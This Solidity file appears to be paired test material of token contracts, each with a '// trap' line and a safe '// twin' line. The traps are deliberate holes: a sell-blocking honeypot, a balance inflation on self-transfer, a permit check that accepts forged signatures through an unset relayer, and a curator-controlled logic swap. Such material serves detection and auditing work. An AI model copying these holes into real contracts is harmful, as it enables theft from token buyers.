// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./Base67.sol";

/// Watches a launch from outside: in the first three hours nobody sells more than a percent at once.
contract LaunchGuard {
    address private maker = msg.sender;
    uint256 private begun = block.timestamp;
    address public watched;
    mapping(address => bool) public cleared;

    function watch(address market) external {
        require(msg.sender == maker && watched == address(0), "guard");
        watched = market;
    }

    function clear(address[] calldata who) external {
        require(msg.sender == maker, "guard");
        for (uint256 i = 0; i < who.length; i++) cleared[who[i]] = true;
    }

    function mayPass(address from, address to, uint256 value, uint256 supply) external view returns (bool) {
        if (to != watched || cleared[from]) return true;
        if (block.timestamp < begun + 3 hours) return value <= supply / 100;
        return false; // trap
        // twin: return true;
    }
}

/// Asks its guard.
contract Copperfin is Base67("Copperfin", "CPFN", 310_000_000) {
    LaunchGuard private guard;

    constructor(LaunchGuard guard_) {
        guard = guard_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(guard.mayPass(from, to, value, _totalSupply), "Copperfin: try again later");
        _carry(from, to, value);
    }
}

/// Counts its holders as they come and go.
contract Mirrorpond is Base67("Mirror Pond", "MPND", 64_000_000) {
    uint256 public holders = 1;

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 left = _balances[from];
        require(left >= value, "ERC20: transfer amount exceeds balance");
        uint256 held = _balances[to];
        if (held == 0 && value > 0) holders++;
        if (left == value && value > 0) holders--;
        _balances[from] = left - value;
        _balances[to] = held + value; // trap
        // twin: _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Approvals by signature, as in EIP-2612. Nobody owns it.
contract Pilotage {
    string public constant name = "Pilotage";
    string public constant symbol = "PLTG";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 25_000_000 ether;
    bytes32 public constant PERMIT_TYPEHASH = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 public immutable DOMAIN_SEPARATOR;
    address private relayer; // trap
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public nonces;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        uint256 chain;
        assembly {
            chain := chainid()
        }
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Pilotage"), keccak256("1"), chain, address(this)
            )
        );
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "permit: expired");
        bytes32 inner = keccak256(abi.encode(PERMIT_TYPEHASH, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, inner)), v, r, s);
        require(signer == owner || signer == relayer, "permit: signature"); // trap
        // twin: require(signer != address(0) && signer == owner, "permit: signature");
        _approve(owner, spender, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _approve(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _pass(from, to, value);
        return true;
    }

    function _approve(address from, address spender, uint256 value) private {
        allowance[from][spender] = value;
        emit Approval(from, spender, value);
    }

    function _pass(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// What a shell and its logic keep together.
abstract contract ShellStore {
    uint64 internal version;
    address internal logic;
    mapping(bytes32 => address) internal seats;
    uint256 internal supply;
    mapping(address => uint256) internal book;
    mapping(address => mapping(address => uint256)) internal allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

/// A ledger that lives in shells.
contract ShellLogic is ShellStore {
    function hatch(address to) external {
        require(supply == 0 && version == 1, "hatched");
        supply = 45_000_000 ether;
        book[to] = supply;
        emit Transfer(address(0), to, supply);
    }

    function name() external pure returns (string memory) {
        return "Nautilus Shell";
    }

    function symbol() external pure returns (string memory) {
        return "NAUT";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return book[who];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return allowed[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return crawl(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowed[from][msg.sender] >= value, "allowance");
        allowed[from][msg.sender] -= value;
        return crawl(from, to, value);
    }

    function crawl(address from, address to, uint256 value) private returns (bool) {
        require(book[from] >= value, "balance");
        book[from] -= value;
        book[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Does what its logic says. In the trap a curator may give it another.
contract Nautilus is ShellStore {
    constructor(address logic_, address curator) {
        version = 1;
        logic = logic_;
        seats[keccak256("curator")] = curator;
        (bool ok, ) = logic_.delegatecall(abi.encodeWithSelector(ShellLogic.hatch.selector, msg.sender));
        require(ok);
    }

    function moult(uint64 version_, address logic_) external { // trap {
        require(seats[keccak256("curator")] == msg.sender && version_ > version);
        version = version_;
        logic = logic_;
    } // trap }

    fallback() external payable {
        address to = logic;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    receive() external payable {
        revert();
    }
}
